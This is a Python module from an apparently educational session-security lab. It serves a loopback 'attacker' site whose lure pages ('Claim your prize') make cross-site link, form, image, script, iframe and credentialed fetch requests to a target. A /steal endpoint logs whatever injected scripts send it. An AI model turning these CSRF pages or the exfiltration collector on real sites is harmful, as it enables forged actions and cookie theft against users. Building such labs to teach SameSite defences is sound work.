"""A second site on this machine: an attacker's pages that make real cross-site requests.

SameSite is about *sites*: a request is cross-site when the page that makes it belongs to
another registrable domain than the server it goes to. ``127.0.0.1`` and ``localhost`` (and
``attacker.localhost``, which Chromium resolves to loopback itself) are different sites, while
another port of ``127.0.0.1`` is the same site. So the attacker's server listens on
127.0.0.1 like every lab server, and the browser reaches it as ``http://attacker.localhost:PORT``.

Each page makes one request of one kind to the target: a link or a form the victim clicks
(top-level navigations), or an image, a script, an iframe or a fetch that the page loads by
itself (embedded requests). ``/steal?c=...`` records what an injected script sends it.

>>> import sessionlab as sl
>>> with sl.start(store="memory", name="doc-target") as lab:
...     with sl.start_attacker(lab.url, name="doc-attacker") as attacker:
...         attacker.page("img", "/logout").split(":")[1]
'//attacker.localhost'
"""

from __future__ import annotations

import html
import json
import logging
from typing import Any
from urllib.parse import urlencode, urljoin

from flask import Flask, Response, request

from .handle import LabServer, register, stop
from .stores import MemoryStore
from .threads import ThreadRunner
from .tls import local_tls

KINDS = {
    "link": "a link the victim clicks (a top-level GET)",
    "form": "a form the victim submits (a top-level POST)",
    "form-get": "a form the victim submits by GET (a top-level GET)",
    "img": "an image the page loads",
    "script": "a script the page loads",
    "iframe": "a frame the page loads",
    "fetch": "a fetch() with credentials the page makes",
}
DONE = "document.title = 'done'"  # every embedded request ends by setting the title
PIXEL = bytes.fromhex(
    "89504e470d0a1a0a0000000d4948445200000001000000010806000000"
    "1f15c4890000000d49444154789c6360000002000154a24f5d0000000049454e44ae426082"
)


class AttackerSite(LabServer):
    """The attacker's server: ``page(kind, path)`` gives the URL of a page that sends one
    request of that kind to the target; ``stolen`` lists what reached ``/steal``."""

    target: str = ""

    def page(self, kind: str, path: str = "/", **fields: str) -> str:
        """The URL of the page making a ``kind`` request to ``path`` on the target."""
        if kind not in KINDS:
            raise ValueError(f"kind must be one of {', '.join(KINDS)}, not {kind!r}")
        return f"{self.url}/{kind}?{urlencode({'path': path, **fields})}"

    @property
    def steal_url(self) -> str:
        """Where an injected script sends what it read: ``steal_url + "?c=" + data``."""
        return f"{self.url}/steal"

    @property
    def stolen(self) -> list[str]:
        """What injected scripts sent to ``/steal``, oldest first."""
        return [event.removeprefix("stolen: ") for event in self.events]


def attack_page(kind: str, target: str, fields: dict[str, str]) -> str:
    """The HTML of one attacker page (see KINDS)."""
    url = html.escape(target)
    inputs = "".join(
        f'<input type="hidden" name="{html.escape(k)}" value="{html.escape(v)}">'
        for k, v in fields.items()
    )
    method = "get" if kind == "form-get" else "post"
    element = {
        "link": f'<a id="go" href="{url}">Claim your prize</a>',
        "form": f'<form method="{method}" action="{url}">{inputs}'
        '<button id="go">Claim your prize</button></form>',
        "img": f'<img src="{url}" onload="{DONE}" onerror="{DONE}">',
        "script": f'<script src="{url}" onload="{DONE}" onerror="{DONE}"></script>',
        "iframe": f'<iframe src="{url}" onload="{DONE}"></iframe>',
        "fetch": f"<script>fetch({json.dumps(target)}, "
        '{credentials: "include", mode: "no-cors"})'
        f".finally(() => {{ {DONE} }})</script>",
    }
    element["form-get"] = element["form"]
    return (
        "<!doctype html><title>A prize for you</title>"
        '<body style="font-family: sans-serif; background: #fff3e0">'
        "<h1>Congratulations!</h1><p>(An attacker's page on another site. "
        f"It makes {KINDS[kind]} to <code>{url}</code>.)</p>{element[kind]}</body>"
    )


def create_attacker_app(target: str, events: str) -> Flask:
    """The attacker's Flask app; what ``/steal`` receives is logged on ``events``."""
    app = Flask("sessionlab-attacker")
    log = logging.getLogger(events)

    @app.get("/")
    def index() -> str:
        rows = "".join(
            f"<li><code>/{k}?path=/...</code>: {what}</li>" for k, what in KINDS.items()
        )
        return f"<h1>The attacker's site</h1><ul>{rows}</ul>"

    @app.get("/<kind>")
    def attack(kind: str) -> Any:
        if kind not in KINDS:
            return Response("no such page", status=404)
        fields = {k: v for k, v in request.args.items() if k != "path"}
        url = urljoin(target + "/", request.args.get("path", "/").lstrip("/"))
        return attack_page(kind, url, fields)

    @app.get("/steal")
    def steal() -> Response:
        log.warning("stolen: %s", request.args.get("c", ""))
        return Response(PIXEL, mimetype="image/png")

    return app


def start_attacker(
    target: str, *, name: str = "attacker", host: str = "attacker.localhost", tls: bool = False
) -> AttackerSite:
    """Serve the attacker's pages for ``target`` (a URL) on another site of this machine.

    It listens on 127.0.0.1 and is reached as ``http://{host}:PORT``: a ``*.localhost``
    name (Chromium resolves it to loopback itself) or ``localhost`` is another site than
    ``127.0.0.1``. Registered under ``name`` like any lab: starting it again replaces it.
    """
    stop(name)
    events = f"sessionlab.attacker.{name}"
    app = create_attacker_app(target.rstrip("/"), events)
    context = local_tls().server_context() if tls else None
    runner = ThreadRunner(app, tls=context, events_from=events)
    site = AttackerSite(
        name,
        runner.start(),
        MemoryStore(),  # the attacker's site keeps no sessions
        cookie_name=name,
        kind="attacker",
        app=app,
        host=host,
        insecure_choices=["pages that attack the target"],
        ca_path=str(local_tls().ca_path) if tls else None,
    )
    site.target = target.rstrip("/")
    register(site)
    return site
